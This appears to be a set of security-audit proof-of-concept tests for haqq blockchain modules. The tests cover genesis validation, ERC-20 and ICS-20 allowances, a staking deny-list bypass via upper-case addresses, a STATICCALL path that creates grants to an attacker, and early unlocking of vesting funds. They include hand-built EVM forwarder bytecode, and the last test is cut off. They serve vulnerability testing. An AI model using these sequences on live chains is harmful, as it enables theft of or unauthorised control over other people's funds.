	ctx := a.BaseApp.NewContext(false, header)
	require.Equal(t, hundred.String(), a.DaoKeeper.GetTotalBalance(ctx).String())
	require.Equal(t, hundred.String(), a.BankKeeper.GetAllBalances(ctx, authtypes.NewModuleAddress(types.ModuleName)).String())
}
