package keeper_test

import (
	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"

	"github.com/haqq-network/haqq/testutil"
	"github.com/haqq-network/haqq/utils"
	"github.com/haqq-network/haqq/x/ucdao/types"
)

// Witness for C12: an ownership transfer from an account to itself must not create or destroy shares.
func (suite *KeeperTestSuite) TestZZSelfTransferKeepsShares() {
	suite.SetupTest()
	ctx, k := suite.ctx, suite.app.DaoKeeper
	hundred := sdk.NewCoin(utils.BaseDenom, sdkmath.NewInt(100))
	forty := sdk.NewCoin(utils.BaseDenom, sdkmath.NewInt(40))
	suite.Require().NoError(testutil.FundAccount(ctx, suite.app.BankKeeper, suite.address, sdk.NewCoins(hundred)))
	suite.Require().NoError(k.Fund(ctx, sdk.NewCoins(hundred), suite.address))

	msg := types.NewMsgTransferOwnershipWithAmount(suite.address, suite.address, sdk.NewCoins(forty))
	suite.Require().NoError(msg.ValidateBasic())
	_, err := k.TransferOwnership(ctx, suite.address, suite.address, sdk.NewCoins(forty))
	suite.Require().NoError(err)

	bal := k.GetBalance(ctx, suite.address, utils.BaseDenom)
	total := k.GetTotalBalanceOf(ctx, utils.BaseDenom)
	suite.Require().Equal(total.String(), bal.String(), "holder balances must add up to the recorded total")
	suite.Require().Equal(hundred.String(), bal.String(), "self transfer must not destroy shares")
}
