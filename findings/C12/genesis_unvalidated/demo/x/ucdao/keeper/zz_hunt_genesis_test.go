package keeper_test

import (
	"fmt"

	sdk "github.com/cosmos/cosmos-sdk/types"

	"github.com/haqq-network/haqq/tests"
	"github.com/haqq-network/haqq/utils"
	"github.com/haqq-network/haqq/x/ucdao"
	"github.com/haqq-network/haqq/x/ucdao/types"
)

// zzAcceptGenesis runs the module's own two genesis gates: ValidateGenesis (what `haqqd validate-genesis`
// runs) and then InitGenesis (what InitChain runs). It reports whether the genesis was accepted.
func (suite *KeeperTestSuite) zzAcceptGenesis(gs *types.GenesisState) (accepted bool, reason string) {
	bz, err := suite.appCodec.MarshalJSON(gs)
	suite.Require().NoError(err)
	if err := (ucdao.AppModuleBasic{}).ValidateGenesis(suite.appCodec, suite.clientCtx.TxConfig, bz); err != nil {
		return false, "ValidateGenesis: " + err.Error()
	}
	defer func() {
		if r := recover(); r != nil {
			accepted, reason = false, fmt.Sprintf("InitGenesis panic: %v", r)
		}
	}()
	suite.app.DaoKeeper.InitGenesis(suite.ctx, gs)
	return true, ""
}

// zzSumOfShares sums every stored balance of every holder.
func (suite *KeeperTestSuite) zzSumOfShares() sdk.Coins {
	sum := sdk.NewCoins()
	suite.app.DaoKeeper.IterateAllBalances(suite.ctx, func(_ sdk.AccAddress, c sdk.Coin) bool {
		sum = sum.Add(c)
		return false
	})
	return sum
}

// TestZZHuntGenesisDuplicateHolder: a genesis that lists the same holder twice is accepted
// (GenesisState.Validate is a no-op) and InitGenesis lets the second entry overwrite the first
// while the recorded total counts both. If a genesis is accepted, the ledger equation
// "sum of shares == recorded total" must hold afterwards.
func (suite *KeeperTestSuite) TestZZHuntGenesisDuplicateHolder() {
	suite.SetupTest()

	holder := sdk.AccAddress(tests.GenerateAddress().Bytes())
	hundred := sdk.NewCoins(sdk.NewInt64Coin(utils.BaseDenom, 100))

	gs := types.NewGenesisState(
		types.DefaultParams(),
		[]types.Balance{
			{Address: holder.String(), Coins: hundred},
			{Address: holder.String(), Coins: hundred},
		},
		sdk.NewCoins(sdk.NewInt64Coin(utils.BaseDenom, 200)),
	)

	accepted, reason := suite.zzAcceptGenesis(gs)
	if !accepted {
		suite.T().Logf("genesis rejected (good): %s", reason)
		return
	}

	total := suite.app.DaoKeeper.GetTotalBalance(suite.ctx)
	sum := suite.zzSumOfShares()
	suite.T().Logf("accepted; holder=%s sumOfShares=%s recordedTotal=%s",
		suite.app.DaoKeeper.GetAccountBalances(suite.ctx, holder), sum, total)
	suite.Require().Equal(total.String(), sum.String(),
		"genesis was accepted, but the sum of all holders' shares differs from the recorded DAO total")
}

// TestZZHuntGenesisRepeatedDenom: same hole one level down, a holder whose coin list repeats a denom.
func (suite *KeeperTestSuite) TestZZHuntGenesisRepeatedDenom() {
	suite.SetupTest()

	holder := sdk.AccAddress(tests.GenerateAddress().Bytes())
	gs := types.NewGenesisState(
		types.DefaultParams(),
		[]types.Balance{
			{Address: holder.String(), Coins: sdk.Coins{sdk.NewInt64Coin(utils.BaseDenom, 5), sdk.NewInt64Coin(utils.BaseDenom, 7)}},
		},
		sdk.Coins{},
	)

	accepted, reason := suite.zzAcceptGenesis(gs)
	if !accepted {
		suite.T().Logf("genesis rejected (good): %s", reason)
		return
	}

	total := suite.app.DaoKeeper.GetTotalBalance(suite.ctx)
	sum := suite.zzSumOfShares()
	suite.T().Logf("accepted; holder=%s sumOfShares=%s recordedTotal=%s",
		suite.app.DaoKeeper.GetAccountBalances(suite.ctx, holder), sum, total)
	suite.Require().Equal(total.String(), sum.String(),
		"genesis was accepted, but the sum of all holders' shares differs from the recorded DAO total")
}

// TestZZHuntGenesisExportImportAfterDuplicate: the state produced by the accepted genesis above
// cannot even be exported and imported again (the exported total no longer matches the exported balances).
func (suite *KeeperTestSuite) TestZZHuntGenesisExportImportAfterDuplicate() {
	suite.SetupTest()

	holder := sdk.AccAddress(tests.GenerateAddress().Bytes())
	hundred := sdk.NewCoins(sdk.NewInt64Coin(utils.BaseDenom, 100))
	gs := types.NewGenesisState(
		types.DefaultParams(),
		[]types.Balance{
			{Address: holder.String(), Coins: hundred},
			{Address: holder.String(), Coins: hundred},
		},
		sdk.Coins{},
	)
	accepted, reason := suite.zzAcceptGenesis(gs)
	if !accepted {
		suite.T().Logf("genesis rejected (good): %s", reason)
		return
	}

	exported := suite.app.DaoKeeper.ExportGenesis(suite.ctx)
	suite.SetupTest()
	accepted, reason = suite.zzAcceptGenesis(exported)
	suite.Require().True(accepted, "state created from an accepted genesis must survive export/import: %s", reason)
}
