package erc20_test

import (
	"math/big"

	"cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/common"

	auth "github.com/haqq-network/haqq/precompiles/authorization"
	erc20precompile "github.com/haqq-network/haqq/precompiles/erc20"
	"github.com/haqq-network/haqq/testutil/integration/haqq/factory"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// zzForwarderInitCode deploys a 32 byte "tolerant forwarder":
//
//	calldata = <32 byte target address> ++ <payload>
//	runtime  = CALL(gas, target, 0, payload) ; return the 32 byte success flag of that CALL
//
// i.e. a contract that makes a call and carries on when that call fails (what `try/catch` or a
// low-level `address.call` whose result is only inspected compiles to).
//
//	60 20 36 03       PUSH1 32; CALLDATASIZE; SUB            n = calldatasize-32
//	80 60 20 60 00 37 DUP1; PUSH1 32; PUSH1 0; CALLDATACOPY  mem[0..n) = calldata[32..)
//	60 00 60 00       retSize, retOffset
//	82 60 00 60 00    argsSize=n, argsOffset=0, value=0
//	60 00 35 5a f1    target = calldata[0..32); GAS; CALL
//	60 00 52          mem[0..32) = success
//	60 20 60 00 f3    RETURN(0, 32)
var zzForwarderInitCode = common.FromHex(
	"0x6020" + "80" + "600b" + "6000" + "39" + "6000" + "f3" + // constructor: return the 32 runtime bytes
		"60203603" + "80" + "6020" + "6000" + "37" +
		"6000" + "6000" + "82" + "6000" + "6000" + "600035" + "5a" + "f1" +
		"600052" + "60206000f3",
)

// TestZZHuntFailedTransferFromKeepsAllowance states the property: an ERC-20 allowance (the authz
// SendAuthorization of the owner to the spender) is reduced by exactly the amount that was really
// transferred. A transferFrom that fails (here: the owner does not hold the amount) moves nothing,
// so it must leave the allowance where it was.
func (s *PrecompileTestSuite) TestZZHuntFailedTransferFromKeepsAllowance() {
	owner := s.keyring.GetKey(0)
	third := s.keyring.GetKey(1)
	receiver := common.HexToAddress("0x00000000000000000000000000000000000C04b1")
	precompileAddr := s.precompile.Address()

	const (
		ownerFunds = 50
		allowance  = 100
		pull       = 80 // <= allowance, > the owner's balance
	)

	// the owner holds 50 tokens
	s.Require().NoError(s.network.FundAccount(owner.AccAddr, sdk.NewCoins(sdk.NewInt64Coin(s.tokenDenom, ownerFunds))))
	s.Require().NoError(s.network.NextBlock())

	// the spender is a contract that tolerates a failing call
	spender, err := s.factory.DeployContract(
		owner.Priv,
		evmtypes.EvmTxArgs{GasLimit: 500_000},
		factory.ContractDeploymentData{Contract: evmtypes.CompiledContract{ABI: abi.ABI{}, Bin: zzForwarderInitCode}},
	)
	s.Require().NoError(err, "failed to deploy the forwarder")
	s.Require().NoError(s.network.NextBlock())
	code := s.network.App.EvmKeeper.GetCode(s.network.GetContext(), common.BytesToHash(s.network.App.EvmKeeper.GetAccountWithoutBalance(s.network.GetContext(), spender).CodeHash))
	s.Require().Len(code, 32, "forwarder runtime code")

	// the owner approves the spender for 100 tokens, calling the precompile directly
	_, err = s.factory.ExecuteContractCall(
		owner.Priv,
		evmtypes.EvmTxArgs{To: &precompileAddr, GasLimit: 500_000},
		factory.CallArgs{ContractABI: s.precompile.ABI, MethodName: auth.ApproveMethod, Args: []interface{}{spender, big.NewInt(allowance)}},
	)
	s.Require().NoError(err, "approve failed")
	s.Require().NoError(s.network.NextBlock())

	allowanceOf := func() *big.Int {
		_, _, a, err := erc20precompile.GetAuthzExpirationAndAllowance(
			s.network.App.AuthzKeeper, s.network.GetContext(), spender, owner.Addr, s.tokenDenom,
		)
		if err != nil {
			return big.NewInt(0) // no grant at all
		}
		return a
	}
	balanceOf := func(addr common.Address) math.Int {
		return s.network.App.BankKeeper.GetBalance(s.network.GetContext(), addr.Bytes(), s.tokenDenom).Amount
	}
	s.Require().Equal(int64(allowance), allowanceOf().Int64(), "allowance after approve")

	// anybody asks the spender contract to pull 80 tokens from the owner, who only has 50
	payload, err := s.precompile.ABI.Pack(erc20precompile.TransferFromMethod, owner.Addr, receiver, big.NewInt(pull))
	s.Require().NoError(err)
	input := append(common.LeftPadBytes(precompileAddr.Bytes(), 32), payload...)

	res, err := s.factory.ExecuteEthTx(third.Priv, evmtypes.EvmTxArgs{To: &spender, Input: input, GasLimit: 8_000_000})
	s.Require().NoError(err, "the transaction itself must succeed: the spender swallows the failed call")
	ethRes, err := evmtypes.DecodeTxResponse(res.Data)
	s.Require().NoError(err)
	s.Require().Equal(make([]byte, 32), ethRes.Ret, "the inner transferFrom must have failed (success flag 0)")
	s.Require().NoError(s.network.NextBlock())

	// nothing was transferred ...
	s.Require().Equal(int64(ownerFunds), balanceOf(owner.Addr).Int64(), "owner's tokens")
	s.Require().Equal(int64(0), balanceOf(receiver).Int64(), "receiver's tokens")
	// ... so nothing of the allowance was used
	s.Require().Equal(int64(allowance), allowanceOf().Int64(),
		"transferFrom failed and moved 0 tokens, but the allowance of %d went down by %d",
		allowance, allowance-allowanceOf().Int64(),
	)
}
