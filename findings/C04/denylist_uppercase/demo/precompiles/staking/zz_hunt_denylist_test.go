package staking_test

import (
	"math/big"
	"strings"
	"time"

	"cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/cosmos/cosmos-sdk/types/tx/signing"
	"github.com/cosmos/cosmos-sdk/x/authz"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"

	"github.com/haqq-network/haqq/precompiles/staking"
	"github.com/haqq-network/haqq/precompiles/staking/testdata"
	"github.com/haqq-network/haqq/precompiles/testutil/contracts"
	haqqtestutil "github.com/haqq-network/haqq/testutil"
)

// TestZZHuntGrantDenyListIsHonoured states the property: when the caller of the staking precompile is
// not the signer, the operation needs a grant of the signer to that caller that covers the message
// type, the amount AND the validator. The signer's grant below excludes one validator (deny list);
// the grantee contract must not be able to delegate the signer's funds to that validator, however it
// spells the validator's address.
func (s *PrecompileTestSuite) TestZZHuntGrantDenyListIsHonoured() {
	nextBlock := func() {
		var err error
		s.ctx, err = haqqtestutil.CommitAndCreateNewCtx(s.ctx, s.app, time.Second, nil)
		s.Require().NoError(err)
	}

	contractAddr, err := s.DeployContract(testdata.StakingCallerContract)
	s.Require().NoError(err)
	nextBlock()

	denied := s.validators[0].GetOperator()
	other := s.validators[1].GetOperator()
	limit := sdk.NewCoin(s.bondDenom, math.NewInt(3e18))

	// The signer grants the contract a Delegate authorization of 3e18 for every validator but `denied`,
	// with a regular authz MsgGrant transaction.
	stakeAuthz, err := stakingtypes.NewStakeAuthorization(nil, []sdk.ValAddress{denied}, staking.DelegateAuthz, &limit)
	s.Require().NoError(err)
	expiration := s.ctx.BlockTime().Add(time.Hour)
	msgGrant, err := authz.NewMsgGrant(s.address.Bytes(), contractAddr.Bytes(), stakeAuthz, &expiration)
	s.Require().NoError(err)
	res, err := haqqtestutil.DeliverTx(s.ctx, s.app, s.privKey, nil, signing.SignMode_SIGN_MODE_DIRECT, msgGrant)
	s.Require().NoError(err)
	s.Require().True(res.IsOK(), res.Log)
	nextBlock()

	grant, _ := s.CheckAuthorization(staking.DelegateAuthz, contractAddr, s.address)
	s.Require().NotNil(grant, "grant of the signer to the contract")
	s.Require().Equal([]string{denied.String()}, grant.GetDenyList().GetAddress())

	delegatedTo := func(val sdk.ValAddress) math.Int {
		del, found := s.app.StakingKeeper.GetDelegation(s.ctx, s.address.Bytes(), val)
		if !found {
			return math.ZeroInt()
		}
		v, _ := s.app.StakingKeeper.GetValidator(s.ctx, val)
		return v.TokensFromShares(del.Shares).TruncateInt()
	}
	deniedBefore := delegatedTo(denied)
	otherBefore := delegatedTo(other)

	callArgs := contracts.CallArgs{
		ContractAddr: contractAddr,
		ContractABI:  testdata.StakingCallerContract.ABI,
		PrivKey:      s.privKey,
		MethodName:   "testDelegate",
		GasLimit:     1_000_000,
	}

	// the grant works for a validator that is not excluded ...
	_, _, err = contracts.Call(s.ctx, s.app, callArgs.WithArgs(s.address, other.String(), big.NewInt(1e18)))
	s.Require().NoError(err, "delegating to a validator the grant allows")
	nextBlock()
	s.Require().Equal(otherBefore.Add(math.NewInt(1e18)).String(), delegatedTo(other).String())

	// ... and refuses the excluded validator
	_, _, err = contracts.Call(s.ctx, s.app, callArgs.WithArgs(s.address, denied.String(), big.NewInt(1e18)))
	s.Require().Error(err, "delegating to the excluded validator must be refused")
	nextBlock()
	s.Require().Equal(deniedBefore.String(), delegatedTo(denied).String())

	// the same validator, its bech32 address written in upper case (a valid bech32 spelling)
	upper := strings.ToUpper(denied.String())
	parsed, err := sdk.ValAddressFromBech32(upper)
	s.Require().NoError(err)
	s.Require().Equal(denied, parsed, "same validator")

	_, _, err = contracts.Call(s.ctx, s.app, callArgs.WithArgs(s.address, upper, big.NewInt(1e18)))
	nextBlock()

	s.Require().Equal(deniedBefore.String(), delegatedTo(denied).String(),
		"the signer's grant excludes %s, but the contract delegated %s of the signer's funds to it (call error: %v)",
		denied, delegatedTo(denied).Sub(deniedBefore), err,
	)
}
