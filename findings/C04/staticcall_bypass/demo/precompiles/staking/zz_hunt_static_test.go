package staking_test

import (
	"time"

	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/common"

	"github.com/haqq-network/haqq/precompiles/authorization"
	"github.com/haqq-network/haqq/precompiles/staking"
	haqqtestutil "github.com/haqq-network/haqq/testutil"
	testutiltx "github.com/haqq-network/haqq/testutil/tx"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// Two 30/32 byte forwarders. Both take calldata = <32 byte target address> ++ <payload>, call the target
// with the payload and return the 32 byte success flag of that call.
//
//	zzCallForwarder   uses CALL        (what `target.call(payload)` compiles to)
//	zzStaticForwarder uses STATICCALL  (what calling a `view` function of another contract compiles to)
var (
	zzCallForwarder = common.FromHex(
		"0x6020" + "80" + "600b" + "6000" + "39" + "6000" + "f3" + // constructor: return the 32 runtime bytes
			"60203603" + "80" + "6020" + "6000" + "37" + // mem[0..n) = calldata[32..)
			"6000" + "6000" + "82" + "6000" + "6000" + "600035" + "5a" + "f1" + // CALL(gas, target, 0, 0, n, 0, 0)
			"600052" + "60206000f3", // return success flag
	)
	zzStaticForwarder = common.FromHex(
		"0x601e" + "80" + "600b" + "6000" + "39" + "6000" + "f3" + // constructor: return the 30 runtime bytes
			"60203603" + "80" + "6020" + "6000" + "37" + // mem[0..n) = calldata[32..)
			"6000" + "6000" + "82" + "6000" + "600035" + "5a" + "fa" + // STATICCALL(gas, target, 0, n, 0, 0)
			"600052" + "60206000f3", // return success flag
	)
)

// TestZZHuntStaticCallCannotChangeGrants states the property for a read-only frame: nothing that runs
// below a STATICCALL may change state, so a state-changing precompile method reached from there must be
// refused (the precompiles do check `readOnly && isTransaction`), and in particular must not create an
// authz grant of the transaction signer.
//
// Call chain:  signer -> V (STATICCALL) -> H (CALL) -> staking precompile approve(attacker, max, [all])
//
// V stands for any contract of the signer's choice that "only reads" from a third-party contract H
// (a price feed, a token's balanceOf, ...); H is that third-party contract.
func (s *PrecompileTestSuite) TestZZHuntStaticCallCannotChangeGrants() {
	nextBlock := func() {
		var err error
		s.ctx, err = haqqtestutil.CommitAndCreateNewCtx(s.ctx, s.app, time.Second, nil)
		s.Require().NoError(err)
	}
	deploy := func(bin []byte) common.Address {
		addr, err := s.DeployContract(evmtypes.CompiledContract{ABI: abi.ABI{}, Bin: bin})
		s.Require().NoError(err)
		nextBlock()
		return addr
	}

	viewer := deploy(zzStaticForwarder) // V
	hostile := deploy(zzCallForwarder)  // H
	s.Require().Len(s.app.EvmKeeper.GetCode(s.ctx, common.BytesToHash(s.app.EvmKeeper.GetAccountWithoutBalance(s.ctx, viewer).CodeHash)), 30)
	s.Require().Len(s.app.EvmKeeper.GetCode(s.ctx, common.BytesToHash(s.app.EvmKeeper.GetAccountWithoutBalance(s.ctx, hostile).CodeHash)), 32)

	attacker := testutiltx.GenerateAddress()
	msgTypes := []string{staking.DelegateMsg, staking.UndelegateMsg, staking.RedelegateMsg, staking.CancelUnbondingDelegationMsg}

	approve, err := s.precompile.ABI.Pack(authorization.ApproveMethod, attacker, abi.MaxUint256, msgTypes)
	s.Require().NoError(err)
	precompileAddr := s.precompile.Address()
	// payload for H: call the precompile with `approve`; payload for V: staticcall H with that
	forH := append(common.LeftPadBytes(precompileAddr.Bytes(), 32), approve...)
	forV := append(common.LeftPadBytes(hostile.Bytes(), 32), forH...)

	for _, m := range msgTypes {
		a, _ := s.app.AuthzKeeper.GetAuthorization(s.ctx, attacker.Bytes(), s.address.Bytes(), m)
		s.Require().Nil(a, "no grant before")
	}

	msg := evmtypes.NewTx(&evmtypes.EvmTxArgs{
		ChainID:  s.app.EvmKeeper.ChainID(),
		Nonce:    s.app.EvmKeeper.GetNonce(s.ctx, s.address),
		To:       &viewer,
		GasLimit: 3_000_000,
		GasPrice: s.app.FeeMarketKeeper.GetBaseFee(s.ctx),
		Input:    forV,
	})
	msg.From = s.address.Hex()
	res, err := haqqtestutil.DeliverEthTx(s.app, s.privKey, msg)
	s.Require().NoError(err)
	s.Require().True(res.IsOK(), res.Log)
	ethRes, err := evmtypes.DecodeTxResponse(res.Data)
	s.Require().NoError(err)
	s.Require().Empty(ethRes.VmError, "the signer's transaction, which only made a static call, succeeded")
	s.Require().Equal(common.LeftPadBytes([]byte{1}, 32), ethRes.Ret, "V's STATICCALL to H returned")
	nextBlock()

	for _, m := range msgTypes {
		a, _ := s.app.AuthzKeeper.GetAuthorization(s.ctx, attacker.Bytes(), s.address.Bytes(), m)
		s.Require().Nil(a,
			"a transaction in which the signer's contract only made a STATICCALL left a %s grant of the signer %s to %s: %v",
			m, s.address, attacker, a,
		)
	}
}
