package ics20_test

import (
	"math/big"

	sdk "github.com/cosmos/cosmos-sdk/types"
	transfertypes "github.com/cosmos/ibc-go/v7/modules/apps/transfer/types"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/core/vm"

	"github.com/haqq-network/haqq/precompiles/authorization"
	cmn "github.com/haqq-network/haqq/precompiles/common"
	"github.com/haqq-network/haqq/precompiles/ics20"
	testutiltx "github.com/haqq-network/haqq/testutil/tx"
	"github.com/haqq-network/haqq/utils"
)

// TestZZHuntApproveAllowListIsEnforced
//
// Property C04: when the caller is not the signer, an ICS-20 transfer of the signer's funds must stay
// within the grant the signer gave to that caller.
//
// The signer approves a contract through the ICS-20 precompile `approve` for 1 ISLM on one channel and
// restricts the receivers with `allowList = [allowedReceiver]`. The contract then transfers the signer's
// funds to a receiver that is NOT on the list. That transfer must be refused and the signer's balance
// must not move.
func (s *PrecompileTestSuite) TestZZHuntApproveAllowListIsEnforced() {
	s.SetupTest()

	approve := s.precompile.Methods[authorization.ApproveMethod]
	transfer := s.precompile.Methods[ics20.TransferMethod]

	path := NewTransferPath(s.chainA, s.chainB)
	s.coordinator.Setup(path)

	signer := s.chainA.SenderAccount.GetAddress()
	signerHex := common.BytesToAddress(signer)
	grantedContract := differentAddress

	allowedReceiver := s.chainB.SenderAccount.GetAddress().String()
	otherReceiver := sdk.AccAddress(testutiltx.GenerateAddress().Bytes()).String()
	s.Require().NotEqual(allowedReceiver, otherReceiver)

	// --- 1. the signer approves the contract: 1 ISLM on the channel, only towards allowedReceiver.
	// The arguments go through the ABI exactly like a real EVM call would deliver them.
	packed, err := approve.Inputs.Pack(grantedContract, []cmn.ICS20Allocation{{
		SourcePort:    path.EndpointA.ChannelConfig.PortID,
		SourceChannel: path.EndpointA.ChannelID,
		SpendLimit:    defaultCmnCoins,
		AllowList:     []string{allowedReceiver},
	}})
	s.Require().NoError(err)
	approveArgs, err := approve.Inputs.Unpack(packed)
	s.Require().NoError(err)

	_, err = s.precompile.Approve(s.ctx, signerHex, s.stateDB, &approve, approveArgs)
	s.Require().NoError(err, "approve must succeed")

	// the stored grant must carry the restriction the signer asked for
	auth, _ := s.app.AuthzKeeper.GetAuthorization(s.ctx, grantedContract.Bytes(), signer, ics20.TransferMsgURL)
	s.Require().NotNil(auth, "grant must exist after approve")
	transferAuthz, ok := auth.(*transfertypes.TransferAuthorization)
	s.Require().True(ok)
	s.T().Logf("stored grant allow list after approve(allowList=[%s]): %v", allowedReceiver, transferAuthz.Allocations[0].AllowList)

	// --- 2. the contract (caller != signer) moves the signer's funds to a receiver that is not on the list.
	balanceBefore := s.app.BankKeeper.GetBalance(s.ctx, signer, utils.BaseDenom)

	contract := vm.NewContract(vm.AccountRef(signerHex), s.precompile, big.NewInt(0), 200000)
	contract.CallerAddress = grantedContract
	s.ctx = s.ctx.WithGasMeter(sdk.NewInfiniteGasMeter())

	transferArgs := []interface{}{
		path.EndpointA.ChannelConfig.PortID,
		path.EndpointA.ChannelID,
		utils.BaseDenom,
		big.NewInt(1e18),
		signerHex,
		otherReceiver,
		s.chainB.GetTimeoutHeight(),
		uint64(0),
		"memo",
	}
	_, err = s.precompile.Transfer(s.ctx, signerHex, contract, s.stateDB, &transfer, transferArgs)

	balanceAfter := s.app.BankKeeper.GetBalance(s.ctx, signer, utils.BaseDenom)
	s.T().Logf("transfer to non-allow-listed receiver %s: err=%v; signer balance before=%s after=%s",
		otherReceiver, err, balanceBefore.Amount, balanceAfter.Amount)

	s.Assert().Equal([]string{allowedReceiver}, transferAuthz.Allocations[0].AllowList,
		"the grant created by approve must keep the allow list given by the signer")
	s.Assert().Error(err, "a transfer of the signer's funds to a receiver outside the granted allow list must be refused")
	s.Assert().Equal(balanceBefore.Amount.String(), balanceAfter.Amount.String(),
		"the signer's balance must not change for a transfer outside the grant")
}
