package keeper_test

import (
	"time"

	"cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	sdkvesting "github.com/cosmos/cosmos-sdk/x/auth/vesting/types"

	"github.com/haqq-network/haqq/tests"
	"github.com/haqq-network/haqq/testutil"
	"github.com/haqq-network/haqq/x/liquidvesting/types"
	vestingtypes "github.com/haqq-network/haqq/x/vesting/types"
)

// Property (C11): redeeming a liquid token returns the redeemed amount under a
// schedule that releases nothing earlier than the original lockup did.
//
// History: Alice's 3_000_000 aISLM are locked (fully vested) in three steps of
// 1_000_000 at +99_990s, +199_990s, +299_990s. She liquidates all of them and
// redeems the liquid token into "Bob", a clawback vesting account that her own
// second key "Fred" has just funded with a throw-away grant of 3_000_000
// (no lockup, vesting far in the future). Bob forwards 3_000_000 to a plain
// account, Fred claws his grant back. Nothing of Alice's original lockup has
// elapsed, so none of the 3_000_000 redeemed coins may have become spendable.
func (suite *KeeperTestSuite) TestZZHuntRedeemIntoUnvestedAccountUnlocksEarly() {
	suite.SetupTest()
	ctx := suite.ctx
	now := ctx.BlockTime()

	alice := sdk.AccAddress(tests.GenerateAddress().Bytes())
	fred := sdk.AccAddress(tests.GenerateAddress().Bytes())
	bob := sdk.AccAddress(tests.GenerateAddress().Bytes())
	sink := sdk.AccAddress(tests.GenerateAddress().Bytes())
	foundation := sdk.AccAddress(tests.GenerateAddress().Bytes())

	// Alice: foundation-funded account, everything vested, everything locked.
	aliceStart := now.Add(-10 * time.Second)
	va := vestingtypes.NewClawbackVestingAccount(
		authtypes.NewBaseAccountWithAddress(alice), foundation, amount, aliceStart, lockupPeriods, vestingPeriods, nil,
	)
	suite.Require().NoError(testutil.FundAccount(ctx, suite.app.BankKeeper, alice, amount))
	suite.app.AccountKeeper.SetAccount(ctx, suite.app.AccountKeeper.NewAccount(ctx, va))
	suite.Require().Equal("0", suite.app.BankKeeper.SpendableCoins(ctx, alice).AmountOf("aISLM").String())

	// original first unlock time of Alice's coins
	firstUnlock := aliceStart.Add(100000 * time.Second)

	// Fred holds 3_000_000 free aISLM.
	suite.Require().NoError(testutil.FundAccount(ctx, suite.app.BankKeeper, fred, amount))

	// 1. Alice liquidates all her locked coins.
	lresp, err := suite.app.LiquidVestingKeeper.Liquidate(sdk.WrapSDKContext(ctx), types.NewMsgLiquidate(alice, alice, amount[0]))
	suite.Require().NoError(err)
	liquid := lresp.Minted

	// 2. Fred creates the vesting account "Bob": no lockup, vests in ~4 months.
	createMsg := vestingtypes.NewMsgCreateClawbackVestingAccount(
		fred, bob, now.Add(-1*time.Second),
		nil,
		sdkvesting.Periods{{Length: 10_000_000, Amount: amount}},
		false,
	)
	suite.Require().NoError(createMsg.ValidateBasic())
	_, err = suite.app.VestingKeeper.CreateClawbackVestingAccount(sdk.WrapSDKContext(ctx), createMsg)
	suite.Require().NoError(err)
	suite.Require().Equal("0", suite.app.BankKeeper.SpendableCoins(ctx, bob).AmountOf("aISLM").String(), "Fred's grant is unvested")

	// 3. Alice redeems the liquid token into Bob.
	redeemMsg := types.NewMsgRedeem(alice, bob, liquid)
	suite.Require().NoError(redeemMsg.ValidateBasic())
	cctx, write := ctx.CacheContext()
	_, err = suite.app.LiquidVestingKeeper.Redeem(sdk.WrapSDKContext(cctx), redeemMsg)
	if err != nil {
		// a refused redeem keeps the property: nothing moved, nothing unlocked
		suite.T().Logf("redeem refused: %v", err)
		suite.Require().Equal("3000000", suite.app.BankKeeper.GetBalance(ctx, bob, "aISLM").Amount.String())
		suite.Require().Equal("0", suite.app.BankKeeper.SpendableCoins(ctx, bob).AmountOf("aISLM").String())
		suite.Require().Equal("3000000", suite.app.BankKeeper.GetSupply(ctx, liquid.Denom).Amount.String())
		return
	}
	write()
	suite.Require().Equal("6000000", suite.app.BankKeeper.GetBalance(ctx, bob, "aISLM").Amount.String())

	// next block, two seconds later: still ~99_988s before Alice's first unlock
	ctx = ctx.WithBlockTime(now.Add(2 * time.Second)).WithBlockHeight(ctx.BlockHeight() + 1)
	suite.Require().True(ctx.BlockTime().Before(firstUnlock))

	// Bob holds 3_000_000 unvested (Fred's) + 3_000_000 locked (Alice's) coins:
	// nothing may be spendable.
	spendable := suite.app.BankKeeper.SpendableCoins(ctx, bob).AmountOf("aISLM")

	// 4. Bob forwards 3_000_000 to a plain account, Fred claws his grant back.
	sendErr := suite.app.BankKeeper.SendCoins(ctx, bob, sink, amount)
	clawMsg := vestingtypes.NewMsgClawback(fred, bob, fred)
	suite.Require().NoError(clawMsg.ValidateBasic())
	_, clawErr := suite.app.VestingKeeper.Clawback(sdk.WrapSDKContext(ctx), clawMsg)

	fredBal := suite.app.BankKeeper.GetBalance(ctx, fred, "aISLM").Amount
	sinkBal := suite.app.BankKeeper.GetBalance(ctx, sink, "aISLM").Amount
	bobBal := suite.app.BankKeeper.GetBalance(ctx, bob, "aISLM").Amount
	suite.T().Logf("t=now+2s, first original unlock at now+%ds: Bob spendable after redeem = %s; send 3000000 Bob->sink err = %v; clawback err = %v; balances: sink(free)=%s fred(free)=%s bob=%s",
		int64(firstUnlock.Sub(now).Seconds()), spendable, sendErr, clawErr, sinkBal, fredBal, bobBal)

	suite.Require().Equal("0", spendable.String(),
		"redeemed locked coins are spendable %s before their original first unlock", firstUnlock.Sub(ctx.BlockTime()))
	suite.Require().Error(sendErr, "locked redeemed coins could be transferred away")
	// free coins controlled by the attacker: started with 3_000_000 (Fred), must not grow before firstUnlock
	suite.Require().Equal(math.NewInt(3_000_000).String(), fredBal.Add(sinkBal).String(),
		"free (plain-account) coins of the Alice/Fred/Bob group grew before any original unlock")
}

// Same property, other ordering: the target account has no unvested coins when
// the redeem happens; its funder adds the unlocked-but-unvested grant afterwards.
func (suite *KeeperTestSuite) TestZZHuntRedeemThenFunderMergeUnlocksEarly() {
	suite.SetupTest()
	ctx := suite.ctx
	now := ctx.BlockTime()

	alice := sdk.AccAddress(tests.GenerateAddress().Bytes())
	fred := sdk.AccAddress(tests.GenerateAddress().Bytes())
	bob := sdk.AccAddress(tests.GenerateAddress().Bytes())
